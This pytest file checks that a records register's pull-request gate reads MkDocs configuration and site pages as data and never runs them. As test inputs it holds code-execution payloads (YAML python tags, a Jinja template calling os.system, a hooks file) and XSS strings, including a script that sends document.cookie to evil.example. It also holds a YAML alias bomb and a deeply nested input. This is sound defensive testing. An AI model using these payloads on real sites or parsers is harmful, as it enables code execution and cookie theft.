"""Issue 19 part 1: `check` judges configuration as data and runs nothing from the change.

Each attack is performed on a real git repository whose main carries the shipped mkdocs.yml
and site pages: a `hooks:` file, a Python tag and a theme template that would each write a
marker file if anything of the branch ran, script in a page, and code or packaging changed
beside records. The honest configuration changes beside them pass `check --strict`.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import REPO_ROOT, spy_processes
from gitrepo import RECORD, GitRepo, fixture_record, open_on_main
from test_gate_trust import MIXED

from disputes.cli import main

pytestmark = pytest.mark.usefixtures("isolated_git")


@pytest.fixture
def repo(tmp_path: Path) -> GitRepo:
    """main: one open record, the shipped mkdocs.yml and site/ pages; branch `pr` made."""
    made = open_on_main(tmp_path / "register")
    made.git("checkout", "-q", "main")
    shutil.copyfile(REPO_ROOT / "mkdocs.yml", made.path / "mkdocs.yml")
    shutil.copytree(REPO_ROOT / "site", made.path / "site")
    made.commit("The site", when="2026-03-06T10:00:00Z")
    made.git("checkout", "-q", "-B", "pr")
    return made


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    """The file the attacks' code would write if the gate ran it."""
    return tmp_path / "the-branch-ran-code"


def check(repo: GitRepo, fmt: str = "json") -> tuple[int, str]:
    """`disputes check --base main --strict`, as the shipped workflow runs it."""
    result = CliRunner().invoke(
        main, ["check", "--base", "main", "--strict", "--format", fmt, "--root", str(repo.path)]
    )
    assert result.exit_code in (0, 1), result.output  # never a traceback
    return result.exit_code, result.stdout


def found(repo: GitRepo) -> tuple[int, list[tuple[str, str, str]]]:
    """Exit status and (file, severity, message) of each issue."""
    code, output = check(repo)
    return code, [(i["file"], i["severity"], i["message"]) for i in json.loads(output)]


def append(repo: GitRepo, path: str, text: str) -> None:
    target = repo.path / path
    repo.write(path, (target.read_text() if target.exists() else "") + text)


def edit_record(repo: GitRepo) -> None:
    repo.write(RECORD, repo.read(RECORD).replace("Threshold for", "Threshold of"))


# --- code that would run inside the gate ------------------------------------------------


def test_a_hooks_file_is_not_run_and_needs_review(repo: GitRepo, marker: Path) -> None:
    repo.write(
        "hooks/tidy.py", f"from pathlib import Path\nPath({str(marker)!r}).write_text('x')\n"
    )
    append(repo, "mkdocs.yml", "hooks:\n  - hooks/tidy.py\n")
    repo.commit("Tidy the site")
    code, issues = found(repo)
    assert not marker.exists()
    assert code == 0  # alone, it is an administrator's decision, not a failure
    assert [(f, s) for f, s, _ in issues] == [("hooks/tidy.py", "review"), ("mkdocs.yml", "review")]
    assert issues[0][2].startswith("Python code. Ask an administrator to review it")
    assert issues[1][2].startswith("`hooks:` makes MkDocs import and run these Python files")


def test_a_hooks_file_beside_a_record_is_refused(repo: GitRepo, marker: Path) -> None:
    repo.write(
        "hooks/tidy.py", f"from pathlib import Path\nPath({str(marker)!r}).write_text('x')\n"
    )
    append(repo, "mkdocs.yml", "hooks:\n  - hooks/tidy.py\n")
    edit_record(repo)
    repo.commit("A record, and tidy the site")
    code, issues = found(repo)
    assert not marker.exists()
    assert code == 1
    assert issues == [("hooks/tidy.py", "error", MIXED), ("mkdocs.yml", "error", MIXED)]


def test_a_python_tag_in_mkdocs_yml_is_not_run_and_is_refused(repo: GitRepo, marker: Path) -> None:
    text = repo.read("mkdocs.yml").replace(
        "site_name: Professional disagreements register",
        f'site_name: !!python/object/apply:os.system ["touch {marker}"]',
    )
    repo.write("mkdocs.yml", text)
    repo.commit("Rename the site")
    code, output = check(repo, "text")
    assert not marker.exists()
    assert code == 1
    assert output.startswith(
        "mkdocs.yml:4: site_name: the tag !!python/object/apply:os.system makes MkDocs run "
        "Python when it reads this file (the check reads it as text, and it ran nothing)"
    )


@pytest.mark.parametrize("tag", ["!!python/name:os.system", "!!python/module:os"])
def test_any_python_tag_is_refused(repo: GitRepo, tag: str) -> None:
    append(repo, "mkdocs.yml", f"extra:\n  x: {tag} ''\n")
    repo.commit("Extra")
    code, issues = found(repo)
    assert (
        code == 1
        and issues[0][0] == "mkdocs.yml"
        and f"the tag {tag.split(':')[0]}" in (issues[0][2])
    )


def test_a_theme_template_is_not_rendered_and_needs_review(repo: GitRepo, marker: Path) -> None:
    repo.write(
        "overrides/main.html",  # every page is rendered with this template
        f"{{{{ cycler.__init__.__globals__.os.system('touch {marker}') }}}}\n",
    )
    repo.write(
        "mkdocs.yml",
        repo.read("mkdocs.yml").replace(
            "  name: material\n", "  name: material\n  custom_dir: overrides\n"
        ),
    )
    repo.commit("Our own footer")
    code, output = check(repo, "text")
    assert not marker.exists()
    assert code == 0
    lines = output.splitlines()
    assert lines[0] == (
        "mkdocs.yml:10: theme.custom_dir: needs an administrator's review: templates from this "
        "folder (Jinja, HTML and script) replace the theme's own and render every page (after "
        "merging, the site workflow runs it with permission to publish). Ask an administrator "
        "to review this change to the site's settings before it is merged"
    )
    assert lines[1].startswith("overrides/main.html:1: needs an administrator's review: ")
    assert (
        lines[-1] == "2 changes for an administrator to review in 2 files (0 record files checked)."
    )


@pytest.mark.parametrize(
    ("added", "flagged"),
    [
        ("plugins:\n  - macros\n", "plugin `macros` is not one the register ships"),
        (
            "markdown_extensions:\n  - pymdownx.snippets:\n      base_path: [/]\n",
            "Markdown extension `pymdownx.snippets` is not on the register's list",
        ),
        ("extra_javascript:\n  - https://example.org/track.js\n", "scripts added to every page"),
        ("extra_templates:\n  - robots.txt\n", "Jinja templates MkDocs renders"),
        ("INHERIT: elsewhere.yml\n", "another file's settings merged into these ones"),
        ("docs_dir: tools\n", "a different folder of pages"),
        ("copyright: <img src=x onerror=alert(1)>\n", "line 1: `<img src=x onerror=alert(1)>`"),
        ("nav:\n  - Home: javascript:alert(1)\n", "line 1: `javascript:`"),
        ("site_description: 'x\" onfocus=\"alert(1)'\n", "line 1: `onfocus=`"),
        ("theme:\n  name: readthedocs\n", "a different theme"),
        ("unknown_setting: 1\n", "a setting MkDocs or its theme reads"),
    ],
    ids=[
        "plugin",
        "extension",
        "extra_javascript",
        "extra_templates",
        "INHERIT",
        "docs_dir",
        "copyright-html",
        "nav-script-link",
        "attribute-breakout",
        "theme",
        "unknown-key",
    ],
)
def test_what_can_run_code_or_script_in_mkdocs_yml_needs_review(
    repo: GitRepo, added: str, flagged: str
) -> None:
    append(repo, "mkdocs.yml", added)  # a repeated key replaces the first, as in MkDocs
    repo.commit("Site settings")
    code, issues = found(repo)
    assert code == 0
    assert [(f, s) for f, s, _ in issues] == [("mkdocs.yml", "review")], issues
    assert flagged in issues[0][2]


def test_publishing_emails_through_the_plugin_needs_review(repo: GitRepo) -> None:
    repo.write(
        "mkdocs.yml", repo.read("mkdocs.yml").replace("show_emails: false", "show_emails: true")
    )
    repo.commit("Show emails")
    code, issues = found(repo)
    assert code == 0 and [(f, s) for f, s, _ in issues] == [("mkdocs.yml", "review")]
    assert "the register plugin's options decide what the site publishes" in issues[0][2]


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (
            "site_name: Professional disagreements register",
            "site_name: Kent disagreements register",
        ),
        ("docs_dir: site\n", "docs_dir: site\nrepo_url: https://github.com/partnership/register\n"),
        ("primary: indigo", "primary: teal"),
        ("      permalink: true", "      permalink: true\n  - abbr\n  - def_list"),
        ("  - search\n", "  - search:\n      lang: en\n"),
    ],
    ids=["site-name", "repo-url", "palette", "plain-extensions", "search-options"],
)
def test_honest_site_settings_pass(repo: GitRepo, old: str, new: str) -> None:
    """What the administrator's guide asks for (repo_url) and other plain settings; the
    `!ENV` tags of the shipped file are read as data, not refused."""
    text = repo.read("mkdocs.yml")
    assert old in text
    repo.write("mkdocs.yml", text.replace(old, new))
    repo.commit("Our partnership's settings")
    assert found(repo) == (0, [])


# --- script in the site's pages -----------------------------------------------------------

SCRIPT = "\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n"


def test_a_script_in_a_page_alone_needs_review_in_every_format(repo: GitRepo) -> None:
    append(repo, "site/guides/manager.md", SCRIPT)
    repo.commit("A note for managers")
    code, issues = found(repo)
    assert code == 0
    assert [(f, s) for f, s, _ in issues] == [("site/guides/manager.md", "review")]
    assert "this page now holds HTML or script (line " in issues[0][2]
    assert "`<script>`" in issues[0][2]
    code, text = check(repo, "text")
    assert "site/guides/manager.md:" in text and ": needs an administrator's review: " in text
    code, github = check(repo, "github")
    assert code == 0
    assert github.startswith("::warning file=site/guides/manager.md,line=")
    assert ",title=needs an administrator's review::this page now holds HTML" in github


def test_a_script_in_a_page_beside_a_record_is_refused(repo: GitRepo) -> None:
    append(repo, "site/guides/manager.md", SCRIPT)
    edit_record(repo)
    repo.commit("A record and a note")
    assert found(repo) == (1, [("site/guides/manager.md", "error", MIXED)])


@pytest.mark.parametrize(
    "added",
    [
        '[Open the form](#){ onclick="alert(1)" }',
        "[help](javascript:alert(1))",
        "[help](&#106;avascript:alert(1))",
        '<a href="x" onmouseover="alert(1)">help</a>',
        "<iframe src=https://evil.example></iframe>",
        "<svg><script>alert(1)</script></svg>",
    ],
    ids=[
        "attr-list-handler",
        "script-link",
        "encoded-script-link",
        "event-handler",
        "iframe",
        "svg",
    ],
)
def test_script_variants_in_a_page_need_review(repo: GitRepo, added: str) -> None:
    append(repo, "site/guides/manager.md", f"\n{added}\n")
    repo.commit("A note")
    code, issues = found(repo)
    assert code == 0 and [(f, s) for f, s, _ in issues] == [("site/guides/manager.md", "review")]


def test_new_code_inside_a_script_element_the_page_had_needs_review(repo: GitRepo) -> None:
    repo.git("checkout", "-q", "main")
    append(repo, "site/policy.md", "\n<script>\nconsole.log('reviewed');\n</script>\n")
    repo.commit("Reviewed by the administrator")
    repo.git("checkout", "-q", "-B", "pr")
    repo.write(
        "site/policy.md",
        repo.read("site/policy.md").replace(
            "console.log('reviewed');", "fetch('https://evil.example/?' + document.cookie);"
        ),
    )
    repo.commit("Same script")
    code, issues = found(repo)
    assert code == 0 and [(f, s) for f, s, _ in issues] == [("site/policy.md", "review")]
    assert "`<script> fetch('https://evil.example/?' + document.cookie...`" in issues[0][2]


def test_a_script_file_beside_the_pages_needs_review(repo: GitRepo) -> None:
    append(repo, "site/assets/route-form.js", "\nfetch('https://evil.example');\n")
    repo.commit("Faster form")
    code, issues = found(repo)
    assert code == 0
    assert issues == [
        (
            "site/assets/route-form.js",
            "review",
            (
                "a file under site/ that is not a Markdown page is published as it is: a script, style "
                "sheet, HTML or SVG file there runs in every reader's browser on both sites. Ask an "
                "administrator to review it before it is merged"
            ),
        )
    ]


def test_a_page_that_is_a_symbolic_link_needs_review(repo: GitRepo) -> None:
    (repo.path / "site/leak.md").symlink_to("../records/2026/PD-2026-0007.md")
    repo.commit("Show the record")
    code, issues = found(repo)
    assert code == 0
    assert issues == [
        (
            "site/leak.md",
            "review",
            (
                "this is a symbolic link or a submodule: what it points to is not in the change, so "
                "the check cannot read it. Ask an administrator to review it before it is merged"
            ),
        )
    ]


BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
    for p, c in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize(
    ("path", "payload", "said"),
    [
        ("schema/agencies.yml", BOMB, "YAML anchors and aliases (& and *) are not allowed here"),
        (
            "schema/policy.yml",
            "deep: " + "[" * 100_000 + "]" * 100_000 + "\n",
            "nested more than 32 levels deep",
        ),
        ("mkdocs.yml", BOMB, "YAML anchors and aliases (& and *) are not read by the check"),
        ("mkdocs.yml", "deep: " + "[" * 100_000 + "]" * 100_000 + "\n", "nested more than 32"),
        ("schema/dispute.schema.json", "[" * 100_000 + "]" * 100_000, "nested too deeply"),
    ],
    ids=["agencies-alias-bomb", "policy-deep", "mkdocs-alias-bomb", "mkdocs-deep", "schema-deep"],
)
def test_configuration_that_would_stall_or_crash_a_parser_is_an_error(
    repo: GitRepo, path: str, payload: str, said: str
) -> None:
    if path.endswith(".json"):
        repo.write(path, payload)
    else:
        append(repo, path, "\n" + payload)
    repo.commit("Configuration")
    code, issues = found(repo)
    assert code == 1 and issues[0][0] == path and said in issues[0][2], issues


def test_a_register_below_the_top_names_outside_paths_apart(tmp_path: Path) -> None:
    """Register in reg/: a page there and a file of the same name at the top are two paths;
    the plain one at the top cannot stand in for the register's page."""
    made = GitRepo(tmp_path / "repo")
    (made.path / "schema").rename(tmp_path / "schema")
    made.write("reg/" + RECORD, fixture_record())
    (tmp_path / "schema").rename(made.path / "reg" / "schema")
    made.write("reg/site/notes.md", "# Notes\n")
    made.commit("A register below the top")
    made.git("checkout", "-q", "-b", "pr")
    made.write("reg/site/notes.md", "# Notes\n" + SCRIPT)
    made.write("site/notes.md", "# Notes\n\nPlain words.\n")
    made.write(".github/workflows/other.yml", "on: push\n")
    made.commit("Notes")
    result = CliRunner().invoke(
        main,
        [
            "check",
            "--base",
            "main",
            "--strict",
            "--format",
            "json",
            "--root",
            str(made.path / "reg"),
        ],
    )
    assert result.exit_code == 0, result.output
    issues = {
        (i["file"], i["severity"], i["message"].split(" (")[0].split(".")[0])
        for i in json.loads(result.stdout)
    }
    assert issues == {
        ("site/notes.md", "review", "this page now holds HTML or script"),
        (
            "../.github/workflows/other.yml",
            "review",
            "GitHub reads this folder: its workflows run with the repository's permissions",
        ),
    }


# --- code and packaging beside records ------------------------------------------------------

OUTSIDE = {
    "tools/disputes/history/signoffs.py": "\n# sign-offs are optional now\n",
    "pyproject.toml": "\n# a different dependency\n",
    ".pre-commit-config.yaml": "\n# another hook\n",
    "examples/gitlab-ci.yml": "\n# no check\n",
    "tests/test_check.py": "\n# skip the gate's tests\n",
    "README.md": "\nA note.\n",
}


@pytest.mark.parametrize("path", sorted(OUTSIDE))
def test_anything_outside_records_beside_a_record_is_refused(repo: GitRepo, path: str) -> None:
    append(repo, path, OUTSIDE[path])
    edit_record(repo)
    repo.commit("A record, and something else")
    assert found(repo) == (1, [(path, "error", MIXED)])


def test_each_path_beside_a_record_is_named(repo: GitRepo) -> None:
    for path, text in OUTSIDE.items():
        append(repo, path, text)
    repo.write(
        "records/2026/PD-2026-0008.md", fixture_record().replace("PD-2026-0007", "PD-2026-0008")
    )
    repo.commit("A record, and everything else")
    code, issues = found(repo)
    assert code == 1 and issues == [(path, "error", MIXED) for path in sorted(OUTSIDE)]


@pytest.mark.parametrize(
    ("path", "why"),
    [
        ("tools/disputes/history/signoffs.py", "the tool's own code"),
        ("pyproject.toml", "packaging: what is installed"),
        (".pre-commit-config.yaml", "pre-commit hooks: commands that run on the computer"),
        ("examples/gitlab-ci.yml", "continuous-integration set-ups"),
        ("tests/test_check.py", "the tool's tests"),
        (".github/workflows/pr-check.yml", "GitHub reads this folder"),
        ("requirements.txt", "the pin: which release of the tool"),
        # A .txt read as a document would let a change of dependency versions pass unreviewed.
        ("constraints.txt", "the versions of the tool's dependencies"),
    ],
)
def test_code_and_packaging_alone_need_review(repo: GitRepo, path: str, why: str) -> None:
    append(repo, path, "\n# changed\n")
    repo.commit("Maintenance")
    code, issues = found(repo)
    assert code == 0
    assert [(f, s) for f, s, _ in issues] == [(path, "review")]
    assert issues[0][2].startswith(why)
    assert issues[0][2].endswith(". Ask an administrator to review it before it is merged")


# --- nothing of the branch is imported, built or run -----------------------------------------


def test_the_gate_starts_only_git(
    repo: GitRepo, monkeypatch: pytest.MonkeyPatch, marker: Path
) -> None:
    repo.write(
        "hooks/tidy.py", f"from pathlib import Path\nPath({str(marker)!r}).write_text('x')\n"
    )
    append(repo, "mkdocs.yml", "hooks:\n  - hooks/tidy.py\n")
    append(repo, "site/guides/manager.md", SCRIPT)
    repo.commit("Tidy the site")
    calls = spy_processes(monkeypatch)
    assert check(repo)[0] == 0
    assert calls and {c[0] for c in calls} == {"git"}, calls
    assert not marker.exists()


SPY = """
import sys
from disputes.cli import main  # the command line itself imports MkDocs' core for `build`
before = set(sys.modules)
try:
    main(["check", "--base", "main", "--root", sys.argv[1]])
except SystemExit as done:
    code = done.code
site = ("mkdocs", "material", "jinja2", "markdown", "pymdownx", "disputes.site")
loaded = sorted(m for m in set(sys.modules) - before if m.startswith(site)
                or sys.argv[1] in str(getattr(sys.modules[m], "__file__", "") or ""))
print(code, loaded)
"""


def test_the_gate_loads_nothing_of_mkdocs_or_the_branch(repo: GitRepo, marker: Path) -> None:
    """A fresh interpreter: what the check imports while it runs is all it imports."""
    repo.write(
        "hooks/tidy.py", f"from pathlib import Path\nPath({str(marker)!r}).write_text('x')\n"
    )
    append(repo, "mkdocs.yml", "hooks:\n  - hooks/tidy.py\nplugins:\n  - search\n  - tags\n")
    append(repo, "site/guides/manager.md", SCRIPT)
    repo.commit("Tidy the site")
    done = subprocess.run(
        [sys.executable, "-c", SPY, str(repo.path)],
        capture_output=True,
        text=True,
        cwd=repo.path,
        check=True,
        env={**os.environ, "PYTHONPATH": str(REPO_ROOT / "tools")},
    )
    assert done.stdout.splitlines()[-1] == "0 []", done.stdout
    assert not marker.exists()


# --- honest configuration changes pass --strict ---------------------------------------------


def test_a_new_agency_alone_passes(repo: GitRepo) -> None:
    agencies = repo.read("schema/agencies.yml")
    repo.write(
        "schema/agencies.yml",
        agencies.replace("  - Ambulance Service\n", "  - Ambulance Service\n  - Fire Service\n"),
    )
    repo.commit("Add the fire service")
    assert check(repo, "text") == (0, "1 record checked: no problems found.\n")


def test_a_changed_timescale_alone_passes(repo: GitRepo) -> None:
    policy = repo.read("schema/policy.yml")
    repo.write(
        "schema/policy.yml",
        policy.replace("{amount: 14, unit: days}", "{amount: 10, unit: working_days}"),
    )
    repo.commit("Stage 4 has ten working days")
    assert found(repo) == (0, [])


def test_a_schema_change_that_keeps_every_record_valid_passes(repo: GitRepo) -> None:
    schema = repo.read("schema/dispute.schema.json")
    assert '"maxLength": 200' in schema
    repo.write(
        "schema/dispute.schema.json", schema.replace('"maxLength": 200', '"maxLength": 300', 1)
    )
    repo.commit("Longer titles")
    assert found(repo) == (0, [])


def test_a_schema_change_that_breaks_a_record_fails_naming_it(repo: GitRepo) -> None:
    schema = repo.read("schema/dispute.schema.json")
    repo.write(
        "schema/dispute.schema.json", schema.replace('"maxLength": 200', '"maxLength": 5', 1)
    )
    repo.commit("Short titles")
    code, issues = found(repo)
    assert code == 1
    assert [(f, s) for f, s, _ in issues] == [(RECORD, "error")]
    assert issues[0][2].startswith("with this change's configuration, ")


def test_removing_an_agency_a_record_names_fails_under_strict(repo: GitRepo) -> None:
    agencies = repo.read("schema/agencies.yml")
    repo.write("schema/agencies.yml", agencies.replace("  - Kent Police\n", ""))
    repo.commit("Police are gone")
    code, issues = found(repo)
    assert code == 1 and {f for f, _, _ in issues} == {RECORD}
    assert all("Kent Police" in m for _, _, m in issues)


@pytest.mark.parametrize("path", ["site/guides/manager.md", "README.md", "site/policy.md"])
def test_plain_words_in_a_page_or_a_document_pass(repo: GitRepo, path: str) -> None:
    append(repo, path, "\nA plainer sentence, with a [link](https://example.org/) and `<id>`.\n")
    repo.commit("Clearer words")
    assert found(repo) == (0, [])


def test_an_unchanged_page_with_html_is_not_flagged_again(repo: GitRepo) -> None:
    repo.git("checkout", "-q", "main")
    append(repo, "site/policy.md", '\n<div class="note">Reviewed.</div>\n')
    repo.commit("Reviewed by the administrator")
    repo.git("checkout", "-q", "-B", "pr")
    append(repo, "site/policy.md", "\nOne more sentence.\n")
    repo.commit("More words")
    assert found(repo) == (0, [])


# --- the shipped workflows build main only -------------------------------------------------


def test_the_site_is_built_from_main_only_and_never_in_the_pull_request_check() -> None:
    import yaml

    site = yaml.safe_load((REPO_ROOT / ".github/workflows/site.yml").read_text())
    checkouts = [
        step
        for job in site["jobs"].values()
        for step in job["steps"]
        if str(step.get("uses", "")).startswith("actions/checkout")
    ]
    assert checkouts and all(step["with"]["ref"] == "main" for step in checkouts)
    check_text = (REPO_ROOT / ".github/workflows/pr-check.yml").read_text()
    runs = "\n".join(
        step.get("run", "")
        for job in yaml.safe_load(check_text)["jobs"].values()
        for step in job["steps"]
    )
    assert "disputes build" not in runs and "mkdocs" not in runs
    # the tool as the target branch pins it, installed from that branch's own checkout
    assert 'git worktree add --detach "$RUNNER_TEMP/base" "origin/${{ github.base_ref }}"' in runs
    assert 'cd "$RUNNER_TEMP/base"' in runs and "pip install $c -r requirements.txt" in runs
